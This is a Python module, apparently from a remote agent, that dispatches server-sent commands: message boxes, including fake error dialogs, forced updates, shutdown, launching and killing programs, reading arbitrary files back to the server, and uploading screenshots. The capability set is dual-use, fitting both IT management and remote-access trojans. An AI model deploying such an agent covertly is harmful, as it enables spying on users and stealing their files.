"""
Command dispatcher: resolves a command name to an action, validates its
parameters, runs it and reports the outcome.

``Dispatcher.dispatch`` never raises. Missing parameters and failed actions
are reported as ``failed`` when the command has an id. Commands without an id
run without any response. Update and uninstall may end the process.
"""

import logging
from datetime import datetime
from enum import Enum
from typing import Callable, Dict, Optional

from .config import AgentContext
from .errors import ActionError, ValidationError
from .installation import uninstall
from .models import Command, Status
from .reporter import ResponseReporter
from .system_actions import SCREENSHOT_SAVED_PREFIX, SystemActions
from .system_info import gather_system_info
from .transport import Transport
from .updater import UpdateEngine

logger = logging.getLogger(__name__)

BYTES_PER_MB = 1024 * 1024


class Action(Enum):
    MESSAGE = "message"
    UPDATE = "update"
    SYSTEM_INFO = "system_info"
    SHUTDOWN = "shutdown"
    RESTART = "restart"
    LOGOFF = "logoff"
    LOCK_SCREEN = "lock_screen"
    LAUNCH_PROGRAM = "launch_program"
    KILL_PROCESS = "kill_process"
    FETCH_FILE = "fetch_file"
    SCREENSHOT = "screenshot"
    SHOW_NOTIFICATION = "show_notification"
    UNINSTALL = "uninstall"
    UNKNOWN = "unknown"


_ALIASES = {
    Action.MESSAGE: ("message", "showmessage", "msg", "showmsg", "alert", "throwerror"),
    Action.UPDATE: ("update", "updateclient", "forceupdate", "install", "installupdate", "forceinstall"),
    Action.SYSTEM_INFO: ("getsysteminfo", "getinfo", "info", "systeminfo"),
    Action.SHUTDOWN: ("shutdown", "poweroff", "turnoff"),
    Action.RESTART: ("restart", "reboot"),
    Action.LOGOFF: ("logoff", "logout", "signout"),
    Action.LOCK_SCREEN: ("lock", "lockscreen"),
    Action.LAUNCH_PROGRAM: ("open", "start", "run"),
    Action.KILL_PROCESS: ("kill", "end", "terminate"),
    Action.FETCH_FILE: ("getfile", "uploadfile", "upload"),
    Action.SCREENSHOT: ("screenshot", "screen", "takescreen", "takescreenshot"),
    Action.SHOW_NOTIFICATION: ("shownotification", "notification", "notify"),
    Action.UNINSTALL: ("remove", "delete", "uninstall"),
}

ACTION_TABLE: Dict[str, Action] = {alias: action for action, aliases in _ALIASES.items() for alias in aliases}


def resolve_action(name: str) -> Action:
    return ACTION_TABLE.get((name or "").strip().lower(), Action.UNKNOWN)


def _require(command: Command, key: str) -> str:
    value = command.text_param(key)
    if value is None or not value.strip():
        raise ValidationError(key)
    return value


class Dispatcher:
    def __init__(
        self,
        ctx: AgentContext,
        reporter: ResponseReporter,
        transport: Transport,
        updater: UpdateEngine,
        actions: Optional[SystemActions] = None,
        uninstaller: Callable[[AgentContext], object] = uninstall,
        system_info: Callable[[AgentContext], str] = gather_system_info,
        clock: Callable[[], datetime] = datetime.now,
    ):
        self.ctx = ctx
        self.reporter = reporter
        self.transport = transport
        self.updater = updater
        self.actions = actions or SystemActions()
        self.uninstaller = uninstaller
        self.system_info = system_info
        self.clock = clock
        self._handlers: Dict[Action, Callable[[Command], None]] = {
            Action.MESSAGE: self._message,
            Action.UPDATE: self._update,
            Action.SYSTEM_INFO: self._system_info,
            Action.SHUTDOWN: self._shutdown,
            Action.RESTART: self._restart,
            Action.LOGOFF: self._logoff,
            Action.LOCK_SCREEN: self._lock_screen,
            Action.LAUNCH_PROGRAM: self._launch_program,
            Action.KILL_PROCESS: self._kill_process,
            Action.FETCH_FILE: self._fetch_file,
            Action.SCREENSHOT: self._screenshot,
            Action.SHOW_NOTIFICATION: self._show_notification,
            Action.UNINSTALL: self._uninstall,
            Action.UNKNOWN: self._unknown,
        }

    def dispatch(self, command: Command) -> None:
        action = resolve_action(command.name)
        logger.debug(f"Dispatching {command.name!r} (id={command.id}) as {action.value}")
        try:
            self._handlers[action](command)
        except ValidationError as e:
            logger.warning(f"{command.name} requested, but {e} -> ignoring command; respond")
            self._respond(f"Error executing command {command.name}; {e}", command, Status.FAILED)
        except ActionError as e:
            logger.error(f"Command {command.name} failed: {e}")
            self._respond(f"Error executing command {command.name}; {e}", command, Status.FAILED)
        except Exception as e:
            logger.exception(f"Unexpected error executing command {command.name}")
            self._respond(f"Error executing command {command.name}; {e}", command, Status.FAILED)

    def _respond(self, text: str, command: Command, status: Status) -> bool:
        if command.id is None:
            logger.debug(f"No id on command {command.name}; not responding")
            return False
        return self.reporter.respond(text, command.id, status)

    # Handlers
    def _message(self, command: Command) -> None:
        text = command.text_param("message") or "Something went wrong."
        caption = command.text_param("caption") or command.text_param("title") or "Error"
        style = command.int_param("type")
        if style is None:
            style = command.int_param("buttons")
        logger.info(f"Message requested (command: {command.name}, caption: {caption})")
        self.actions.show_message_box(text, caption, style or 0)

    def _update(self, command: Command) -> None:
        logger.info(f"Update requested (command: {command.name})")
        self.updater.run(force=True)

    def _system_info(self, command: Command) -> None:
        logger.info(f"System info requested (command: {command.name})")
        self._respond(self.system_info(self.ctx), command, Status.COMPLETED)

    def _power(self, command: Command, label: str, fn: Callable[[], None]) -> None:
        logger.info(f"{label} requested (command: {command.name})")
        fn()
        self._respond(f"{label} started", command, Status.COMPLETED)

    def _shutdown(self, command: Command) -> None:
        self._power(command, "Shutdown", self.actions.shutdown)

    def _restart(self, command: Command) -> None:
        self._power(command, "Restart", self.actions.restart)

    def _logoff(self, command: Command) -> None:
        self._power(command, "Log off", self.actions.logoff)

    def _lock_screen(self, command: Command) -> None:
        self._power(command, "Lock screen", self.actions.lock_screen)

    def _launch_program(self, command: Command) -> None:
        program = _require(command, "program")
        logger.info(f"Open program requested (command: {command.name}, program: {program})")
        self.actions.launch_process(program)
        self._respond(f"Program started: {program}", command, Status.COMPLETED)

    def _kill_process(self, command: Command) -> None:
        process = _require(command, "process")
        logger.info(f"Kill process requested (command: {command.name}, process: {process})")
        killed = self.actions.kill_processes_by_name(process)
        self._respond(f"Killed {killed} process(es) named {process}", command, Status.COMPLETED)

    def _fetch_file(self, command: Command) -> None:
        path = _require(command, "file")
        logger.info(f"Get file requested (command: {command.name}, file: {path})")
        try:
            with open(path, "r", encoding="utf-8", errors="replace") as f:
                content = f.read()
        except OSError as e:
            raise ActionError(f"could not read {path}: {e}") from e
        self._respond(content, command, Status.COMPLETED)

    def _screenshot(self, command: Command) -> None:
        name = f"Screen_{self.ctx.computer_id}_{self.clock():%Y%m%d_%H%M%S}.png"
        screens_dir = self.ctx.screens_dir
        path = screens_dir / name

        result = self.actions.capture_screen(screens_dir, name)
        if not result.startswith(SCREENSHOT_SAVED_PREFIX):
            logger.error(f"Failed to take screenshot: {result}")
            self._respond(result, command, Status.FAILED)
            return
        logger.info(f"Screenshot requested (command: {command.name})")

        size = path.stat().st_size
        size_mb = size / BYTES_PER_MB
        if size >= self.ctx.config.MAX_SCREENSHOT_BYTES:
            limit_mb = self.ctx.config.MAX_SCREENSHOT_BYTES / BYTES_PER_MB
            message = f"Error executing command {command.name}; screenshot size is larger than {limit_mb:g}MB"
            logger.warning(message)
            self._respond(message, command, Status.FAILED)
            return

        if not self.transport.upload_file(str(path)):
            logger.error(f"Failed to upload screenshot (command: {command.name}, filename: {name}, size: {size_mb:.2f} MB)")
            self._respond(f"Failed to upload screenshot; size: {size_mb:.2f} MB", command, Status.FAILED)
            return

        logger.info(f"Screenshot uploaded successfully (filename: {name}, size: {size_mb:.2f} MB)")
        self._respond(
            f"Screenshot uploaded successfully; screenshot name: {name}, size: {size_mb:.2f} MB",
            command,
            Status.COMPLETED,
        )

    def _show_notification(self, command: Command) -> None:
        text = _require(command, "text")
        title = command.text_param("title") or "Notification"
        logger.info(f"Show notification requested (command: {command.name}, title: {title})")
        self.actions.show_notification(text, title)
        self._respond(f"Notification shown (title: {title}, text: {text})", command, Status.COMPLETED)

    def _uninstall(self, command: Command) -> None:
        logger.info(f"Uninstall requested (command: {command.name})")
        self.uninstaller(self.ctx)

    def _unknown(self, command: Command) -> None:
        logger.warning(f"Unknown command received: {command.name}")
        self._respond(f"Error executing command; unknown command received: {command.name}", command, Status.FAILED)
